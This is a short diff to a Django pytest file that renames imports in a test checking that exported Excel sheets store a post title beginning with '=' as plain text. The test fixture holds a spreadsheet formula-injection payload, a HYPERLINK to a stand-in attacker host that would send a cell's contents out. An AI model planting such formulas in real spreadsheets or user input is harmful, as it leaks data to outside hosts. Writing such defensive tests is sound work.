@@ -5,8 +5,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from instansi import workload
-from tests.instansi.workload_data import build_world
+from tests.workload.data import build_world
+from workload import analysis
 
 pytestmark = pytest.mark.django_db
 
@@ -15,7 +15,7 @@ def test_a_post_title_that_starts_with_an_equals_sign_is_exported_as_text(client
     world = build_world()
     world.nurse.title = '=HYPERLINK("http://evil.example/?"&B4,"klik")'
     world.nurse.save(update_fields=["title"])
-    run = workload.run_analysis(region=world.region)
+    run = analysis.run_analysis(region=world.region)
     client.force_login(world.hr)
     book = load_workbook(io.BytesIO(client.get(f"/ikhtisar/ekspor/{run.pk}/").content))
     cells = [row[3] for row in book["Form C"].iter_rows(min_row=4) if row[3].value == world.nurse.title]
